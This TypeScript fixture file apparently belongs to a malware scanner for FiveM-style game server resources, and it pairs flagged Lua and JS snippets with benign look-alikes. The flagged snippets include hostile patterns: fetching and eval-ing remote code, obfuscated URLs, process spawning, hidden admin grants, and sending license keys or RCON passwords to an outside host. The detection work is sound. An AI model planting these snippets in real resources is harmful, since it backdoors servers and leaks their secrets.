import type { Side } from '#contract/manifest/find-sides.ts'
import type { RuleId } from '#contract/rules.ts'

/** Code that a rule finds, and similar code that it does not find. `^` in front of a line marks where. */
export interface Fixture {
  rule: RuleId
  language: 'lua' | 'js'
  side?: Side
  found: string
  notFound: string
}

const lua = (rule: RuleId, found: string, notFound: string, side: Side = 'server'): Fixture => ({
  rule,
  language: 'lua',
  side,
  found,
  notFound,
})
const js = (rule: RuleId, found: string, notFound: string, side: Side = 'server'): Fixture => ({
  ...lua(rule, found, notFound, side),
  language: 'js',
})

export const fixtures: Fixture[] = [
  lua(
    'runs-downloaded-code',
    `PerformHttpRequest('https://a.example', function(status, body)\n^ load(body)()\nend)`,
    `PerformHttpRequest('https://a.example', function(status, body)\n  print(json.decode(body).version)\nend)`,
  ),
  js(
    'runs-downloaded-code',
    `fetch('https://a.example').then((r) => r.text()).then((text) => {\n^ eval(text)\n})`,
    `fetch('https://a.example').then((r) => r.json()).then((data) => { console.log(data.version) })`,
  ),
  lua(
    'runs-text-from-outside',
    `RegisterNetEvent('helper')\nAddEventHandler('helper', function(id)\n^ load(id)()\nend)`,
    `RegisterNetEvent('helper')\nAddEventHandler('helper', function(id)\n  jobs[id].run()\nend)`,
  ),
  js(
    'runs-text-from-outside',
    `onNet('helper', (text) => {\n^ new Function(text)()\n})`,
    `onNet('helper', (text) => { console.log(text) })`,
  ),
  lua(
    'hidden-text',
    `^local url = string.char(104, 116, 116, 112, 115, 58, 47, 47, 97, 46, 101)`,
    `local plate = string.char(math.random(65, 90)) .. string.char(math.random(65, 90))`,
  ),
  js(
    'hidden-text',
    `^const text = Buffer.from('aHR0cHM6Ly9hLmV4YW1wbGUvY29kZS5qcw==', 'base64')`,
    `const icon = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ'`,
  ),
  lua(
    'decoder',
    `local out = ''\nfor i = 1, #text do\n^ out = out .. string.char(text:byte(i) ~ 42)\nend`,
    `local out = text:gsub('%%(%x%x)', function(hex) return string.char(tonumber(hex, 16)) end)`,
  ),
  js(
    'decoder',
    `^const text = codes.map((code) => String.fromCharCode(code ^ 42)).join('')`,
    `const word = String.fromCharCode((hash >>> 8) & 0xff)`,
  ),
  lua(
    'global-by-text',
    `^_G['lo' .. 'ad']('return 1')`,
    `_G['Settings'] = {}\nlocal limit = _G.Settings.limit`,
  ),
  js('global-by-text', `^globalThis['ev' + 'al']('1')`, `globalThis['settings'] = {}`),
  lua(
    'functions-in-list',
    `^local list = { 1, PerformHttpRequest, load }`,
    `local list = { 1, print, tostring }`,
  ),
  js('functions-in-list', `^const list = [1, fetch, eval]`, `const list = [1, fetch, console.log]`),
  lua(
    'http-alias',
    `^local ask = PerformHttpRequest`,
    `local PerformHttpRequest = PerformHttpRequest\nlocal ask = TriggerEvent`,
  ),
  lua('bytecode', `^load('\\27Lua')`, `print('\\27[31m Lua')`),
  js('computed-module', `^const fs = require('f' + 's')`, `const fs = require('fs')`),
  lua('process', `^os.execute('id')`, `os.time()`),
  js('process', `^const { exec } = require('child_process')`, `const { join } = require('path')`),
  js(
    'process',
    `^const programs = await import('node:child_process')`,
    `const paths = await import('node:path')`,
  ),
  js('process', `^process.binding('spawn_sync').spawn({})`, `process.binding('buffer').kStringMaxLength`),
  js(
    'process',
    `^import { spawn } from 'node:child_process'`,
    `import type { ChildProcess } from 'node:child_process'`,
  ),
  js(
    'global-by-text',
    `^[]['constructor']['constructor']('return 1')()`,
    `const copy = new this.constructor(options)`,
  ),
  js(
    'global-by-text',
    `^[]['filter']['constructor'](code)()`,
    `const names = ['constructor']\nnames['filter'](Boolean)`,
  ),
  js(
    'global-by-text',
    `const filter = [].filter\n^filter.constructor(code)()`,
    `const list = new [].constructor(3)`,
  ),
  js('global-by-text', `^(() => {}).constructor(code)()`, `(() => {}).constructor.name`),
  js('global-by-text', `^''.constructor.constructor(code)()`, `const text = ''.constructor(code)`),
  js('global-by-text', `^Math.max.constructor(code)()`, `const copy = new layer.map.constructor(layer.map)`),
  js(
    'runs-computed-code',
    `const { Worker } = require('worker_threads')\n^new Worker(textOf(settings), { eval: true })`,
    `const { Worker } = require('worker_threads')\nnew Worker('console.log(1)', { eval: true })`,
  ),
  js(
    'runs-computed-code',
    `const threads = require('node:worker_threads')\nconst options = { eval: true }\n^new threads.Worker(textOf(settings), options)`,
    `const threads = require('node:worker_threads')\nnew threads.Worker(join(folder, 'a.js'), { workerData: 1 })`,
  ),
  js(
    'process',
    `const { Worker } = require('worker_threads')\n^new Worker("require('child_process').exec('id')", { eval: true })`,
    `const { Worker } = require('worker_threads')\nnew Worker("require('path').join('a')", { eval: true })`,
  ),
  js(
    'runs-downloaded-code',
    `^Object.assign(document.createElement('script'), { src: 'https://a.example/a.js' })`,
    `Object.assign(document.createElement('img'), { src: 'https://a.example/a.png' })`,
    'page',
  ),
  js(
    'runs-computed-code',
    `const src = textOf(settings)\n^document.head.append(Object.assign(document.createElement('script'), { src }))`,
    `Object.assign(document.createElement('script'), { src: 'js/' + name + '.js' })`,
    'page',
  ),
  lua(
    'global-by-text',
    `local name = ''\nfor _, part in pairs({ 'Perform', 'Http', 'Request' }) do name = name .. part end\n^_G[name](url)`,
    `local value = settings[name]`,
  ),
  lua(
    'grants-rights',
    `local owner = 'license:0123456789abcdef'\n^if id == owner then ExecuteCommand(('add_principal identifier.%s group.admin'):format(id)) end`,
    `local owner = 'license:0123456789abcdef'\nif id == owner then ExecuteCommand('refresh') end`,
  ),
  js('runs-text-from-outside', `^exports('run', eval)`, `exports('run', console.log)`),
  js(
    'runs-text-from-outside',
    `const text = GetConvar('boot', '')\n^if (text) (0, eval)(text)`,
    `const text = GetConvar('boot', '')\nif (text) (0, log)(text)`,
  ),
  lua(
    'runs-text-from-outside',
    `local run <const> = load\nRegisterNetEvent('a', function(text)\n^ run(text)()\nend)`,
    `local run <const> = print\nRegisterNetEvent('a', function(text) run(text) end)`,
  ),
  lua(
    'global-by-text',
    `local all = {}\n^for name, value in next, _G do all[name] = value end`,
    `for name, value in next, settings do all[name] = value end`,
  ),
  lua('http-alias', `^local list = { print, PerformHttpRequest }`, `local list = { print, TriggerEvent }`),
  lua(
    'writes-other-resource',
    `^SaveResourceFile('sessionmanager', 'server/host_lock.txt', text, -1)`,
    `SaveResourceFile(GetCurrentResourceName(), 'cache.json', text, -1)`,
  ),
  js(
    'writes-other-resource',
    `const fs = require('fs')\n^fs.writeFileSync(GetResourcePath('monitor') + '/cache.json', text)`,
    `const fs = require('fs')\nfs.writeFileSync('cache.json', text)`,
  ),
  lua(
    'writes-code',
    `^SaveResourceFile(GetCurrentResourceName(), 'fxmanifest.lua', text, -1)`,
    `SaveResourceFile(GetCurrentResourceName(), 'names.json', text, -1)`,
  ),
  js(
    'writes-code',
    `const fs = require('fs')\nonNet('save', (text) => {\n^ fs.writeFileSync('module.js', text)\n})`,
    `const fs = require('fs')\nonNet('save', (text) => { fs.writeFileSync('photo.png', text) })`,
  ),
  lua(
    'grants-rights',
    `^ExecuteCommand('add_principal identifier.license:0123456789abcdef group.admin')`,
    `ExecuteCommand('refresh')`,
  ),
  js(
    'grants-rights',
    `^ExecuteCommand('add_ace builtin.everyone command allow')`,
    `ExecuteCommand('ensure chat')`,
  ),
  lua(
    'txadmin',
    `^local token = GetConvar('txAdmin-luaComToken', '')`,
    `AddEventHandler('txAdmin:events:announcement', announce)`,
  ),
  js('txadmin', `^const headers = { 'X-TxAdmin-Token': token }`, `on('txAdmin:events:playerKicked', log)`),
  lua(
    'secret-and-http',
    `^local key = GetConvar('sv_licenseKey', '')\nPerformHttpRequest('https://a.example?' .. key)`,
    `local key = GetConvar('sv_licenseKey', '')\nprint(#key)`,
  ),
  js(
    'secret-and-http',
    `^const key = GetConvar('rcon_password', '')\nfetch('https://a.example?' + key)`,
    `const locale = GetConvar('locale', 'en')\nfetch('https://a.example?' + locale)`,
  ),
  lua(
    'runs-computed-code',
    `^load(textOf(settings))()`,
    `load(LoadResourceFile(GetCurrentResourceName(), 'modules/a.lua'))()`,
  ),
  js('runs-computed-code', `^eval(textOf(settings))`, `evaluate(textOf(settings))`),
  lua('stops-server', `^os.exit()`, `os.date()`),
  js('stops-server', `^ExecuteCommand('quit')`, `ExecuteCommand('status')`),
  lua(
    'webhook',
    `^local hook = 'https://discord.com/api/webhooks/123456789012345678/abcdef'`,
    `local hook = 'https://discord.com/api/webhooks/your-webhook'`,
    'client',
  ),
  js(
    'webhook',
    `^const hook = 'https://discordapp.com/api/webhooks/123456789012345678/abcdef'`,
    `const invite = 'https://discord.com/invite/abcdef'`,
    'page',
  ),
  lua('address-host', `^local url = 'http://203.0.113.7/list'`, `local url = 'http://127.0.0.1/list'`),
  js('address-host', `^const url = 'http://203.0.113.7:8080/list'`, `const url = 'http://192.168.0.7/list'`),
  lua(
    'obfuscated',
    `^local IIllIlI, lIlIlII, IIIllll, llIIllI, lIIIlll = 1, 2, 3, 4, 5\nprint(IIllIlI, lIlIlII, IIIllll, llIIllI, lIIIlll)`,
    `local Illness, Illinois = 1, 2\nprint(Illness, Illinois)`,
  ),
  js(
    'obfuscated',
    `^const ${Array.from({ length: 12 }, (_, index) => `_0x1a2b${index} = ${index}`).join(', ')}`,
    `const _0x1a = 1, _0x2b = 2`,
  ),
  js('minified', `^${'a(b,c);'.repeat(1000)}`, `a(b,c)\n`.repeat(1000)),
  lua('minified', `^${'a(b,c);'.repeat(1000)}`, `a(b,c)\n`.repeat(1000)),
  js(
    'runs-computed-code',
    `const { Worker } = require('worker_threads')\nconst options = { eval: false }\noptions.eval = true\n^new Worker(textOf(settings), options)`,
    `const { Worker } = require('worker_threads')\nnew Worker(join(folder, settings.name), { eval: false })`,
  ),
  js('runs-computed-code', `^eval(textOf(settings))`, `load(textOf(settings))`),
  js(
    'runs-computed-code',
    `const element = document.createElement('script')\n^element.src = textOf(settings)`,
    `const element = document.createElement('script')\nelement.src = 'js/' + name + '.js'`,
    'page',
  ),
  js(
    'runs-computed-code',
    `const element = document.createElement('script')\n^element.setAttribute('src', textOf(settings))`,
    `const element = document.createElement('img')\nelement.setAttribute('src', textOf(settings))`,
    'page',
  ),
  js(
    'runs-downloaded-code',
    `const element = document.createElement('scr' + 'ipt')\n^element.src = ['https:', '', 'a.example', 'a.js'].join('/')`,
    `const element = document.createElement('script')\nelement.src = 'https://cfx-nui-game/ui/jquery.js'`,
    'page',
  ),
  js(
    'hidden-text',
    `const element = document.createElement('script')\n^element.src = atob('aHR0cHM6Ly9hLmV4YW1wbGUvYS5qcw==')`,
    `const element = document.createElement('img')\nelement.src = atob(settings.icon)`,
    'page',
  ),
  js(
    'decoder',
    `const element = document.createElement('script')\n^element.src = atob(settings.source)`,
    `const element = document.createElement('img')\nelement.src = atob(settings.source)`,
    'page',
  ),
  js(
    'runs-downloaded-code',
    `^import('https://' + 'a.example' + '/a.js')`,
    `import('./modules/' + name + '.js')`,
    'page',
  ),
  js(
    'hidden-text',
    `const element = document.createElement('script')\n^element.textContent = String.fromCharCode(101, 118, 97, 108, 40, 97, 41)`,
    `const element = document.createElement('script')\nelement.textContent = source`,
    'page',
  ),
  js(
    'runs-downloaded-code',
    `^app.innerHTML += '<script src="https://a.example/a.js"></script>'`,
    `app.innerHTML = '<script src="js/a.js"></script>'`,
    'page',
  ),
  js(
    'runs-computed-code',
    `^app.insertAdjacentHTML('beforeend', '<img src="x" onerror="eval(textOf(settings))">')`,
    `app.insertAdjacentHTML('beforeend', '<img src="x" onerror="remove(this)">')`,
    'page',
  ),
  js(
    'remote-page',
    `const element = document.createElement('iframe')\n^element.src = 'https://a.example/frame'`,
    `const element = document.createElement('iframe')\nelement.src = 'frame.html'`,
    'page',
  ),
]
